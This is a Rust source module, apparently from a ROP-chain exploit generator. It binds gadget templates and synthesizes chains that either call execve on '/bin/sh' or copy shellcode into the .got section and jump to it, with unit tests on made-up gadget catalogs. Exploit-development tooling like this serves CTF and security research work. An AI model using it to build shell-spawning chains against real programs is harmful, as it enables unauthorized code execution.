//! Chain generator: picks the template and synthesizer for a mode.

use std::fmt;

use crate::catalog::InstructionCatalog;
use crate::combo::{compile, RoleBinding, Template};
use crate::emit::{Payload, Sections};
use crate::error::Result;
use crate::execve;
use crate::importsc::{self, ImportShellcode};

/// What the generated chain does.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Mode {
    /// Write `argv` into `.data` and call `execve(argv[0], argv, envp)`.
    Execve { argv: Vec<String> },
    /// Copy a shellcode image into `.got` and jump to it.
    ImportShellcode(ImportShellcode),
}

impl fmt::Display for Mode {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Mode::Execve { .. } => write!(f, "execve"),
            Mode::ImportShellcode(_) => write!(f, "import-shellcode"),
        }
    }
}

/// Role bindings for the execve mode.
#[derive(Debug, Clone)]
pub struct ExecveBinding {
    pub main: RoleBinding,
    /// `%rdi` / `%rsi` pops, x86-64 only.
    pub syscall_args: Option<RoleBinding>,
}

/// Generates chains from one catalog.
pub struct RopMaker<'a, C: ?Sized> {
    catalog: &'a C,
    sections: Sections,
}

impl<'a, C: InstructionCatalog + ?Sized> RopMaker<'a, C> {
    pub fn new(catalog: &'a C, sections: Sections) -> Self {
        Self { catalog, sections }
    }

    pub fn sections(&self) -> Sections {
        self.sections
    }

    pub fn bind_execve(&self) -> Result<ExecveBinding> {
        let arch = self.catalog.arch();
        let main = compile(&Template::execve(arch), self.catalog)?;
        let syscall_args = Template::syscall_args(arch)
            .map(|t| compile(&t, self.catalog))
            .transpose()?;
        Ok(ExecveBinding { main, syscall_args })
    }

    pub fn bind_import(&self) -> Result<RoleBinding> {
        compile(&Template::import(self.catalog.arch()), self.catalog)
    }

    /// Build the chain for `mode`. Nothing is returned unless every role
    /// binds and every precondition holds.
    pub fn generate(&self, mode: &Mode) -> Result<Payload> {
        log::info!("generating {} chain for {}", mode, self.catalog.arch());
        match mode {
            Mode::Execve { argv } => {
                let binding = self.bind_execve()?;
                execve::synthesize(
                    &binding.main,
                    binding.syscall_args.as_ref(),
                    argv.as_slice(),
                    self.sections,
                )
            }
            Mode::ImportShellcode(shellcode) => {
                shellcode.check()?;
                let binding = self.bind_import()?;
                importsc::synthesize(&binding, shellcode, self.sections)
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::catalog::Catalog;
    use crate::error::Error;
    use crate::importsc::Capacity;
    use crate::octet::{CodeRegion, OctetSequence};
    use crate::types::Arch;

    fn catalog() -> Catalog {
        Catalog::new(Arch::X86)
            .with(0x0806_0001, "int $0x80")
            .with(0x0806_0002, "inc %eax ; ret")
            .with(0x0806_0003, "xor %eax,%eax ; ret")
            .with(0x0806_0004, "mov %eax,(%edx) ; ret")
            .with(0x0806_0005, "pop %eax ; ret")
            .with(0x0806_0006, "pop %ebx ; ret")
            .with(0x0806_0007, "pop %ecx ; ret")
            .with(0x0806_0008, "pop %edx ; ret")
            .with(0x0806_0009, "mov (%edx),%eax ; ret")
    }

    fn sections() -> Sections {
        Sections {
            data: 0x080e_c060,
            got: 0x080e_bff4,
        }
    }

    #[test]
    fn execve_mode() {
        let catalog = catalog();
        let maker = RopMaker::new(&catalog, sections());
        let payload = maker
            .generate(&Mode::Execve {
                argv: vec!["/bin/sh".into()],
            })
            .unwrap();
        assert_eq!(payload.width, 4);
        assert_eq!(payload.steps.last().unwrap().gadget(), Some(0x0806_0001));
    }

    #[test]
    fn import_mode() {
        let catalog = catalog();
        let maker = RopMaker::new(&catalog, sections());
        let regions = [CodeRegion::new(0x0804_8000, vec![0x31, 0xc0, 0xcd, 0x80])];
        let shellcode = ImportShellcode::new(
            OctetSequence::locate(&[0x31, 0xc0, 0xcd, 0x80], &regions),
            Capacity { got: 8, gotplt: 0 },
        );
        let payload = maker.generate(&Mode::ImportShellcode(shellcode)).unwrap();
        // mov (%edx),%eax already lands in the stored register
        assert_eq!(payload.step_count(), 4 * 4 + 1);
    }

    #[test]
    fn import_precondition_before_binding() {
        let empty = Catalog::new(Arch::X86);
        let maker = RopMaker::new(&empty, sections());
        let shellcode = ImportShellcode::new(
            OctetSequence::locate(&[0x90; 4], &[]),
            Capacity { got: 0, gotplt: 2 },
        );
        assert!(matches!(
            maker.generate(&Mode::ImportShellcode(shellcode)),
            Err(Error::CapacityInsufficient { .. })
        ));
    }

    #[test]
    fn missing_gadget_yields_no_payload() {
        let catalog = Catalog::new(Arch::X86).with(0x1, "int $0x80");
        let maker = RopMaker::new(&catalog, sections());
        let result = maker.generate(&Mode::Execve {
            argv: vec!["/bin/sh".into()],
        });
        assert!(matches!(result, Err(Error::PatternNotFound { .. })));
    }

    #[test]
    fn x86_64_binds_argument_pops() {
        let catalog = Catalog::new(Arch::X86_64)
            .with(0x401000, "xor %rax,%rax ; ret")
            .with(0x401010, "mov %rax,(%rdx) ; ret")
            .with(0x401020, "pop %rax ; ret")
            .with(0x401030, "pop %rbx ; ret")
            .with(0x401040, "pop %rcx ; ret")
            .with(0x401050, "pop %rdx ; ret")
            .with(0x401060, "inc %al ; ret")
            .with(0x401070, "syscall")
            .with(0x401080, "pop %rdi ; ret")
            .with(0x401090, "pop %rsi ; ret");
        let maker = RopMaker::new(&catalog, Sections { data: 0x6010a0, got: 0x600ff8 });
        let binding = maker.bind_execve().unwrap();
        assert!(binding.syscall_args.is_some());
        let payload = maker
            .generate(&Mode::Execve {
                argv: vec!["/bin/sh".into(), "-p".into()],
            })
            .unwrap();
        assert_eq!(payload.width, 8);
    }
}
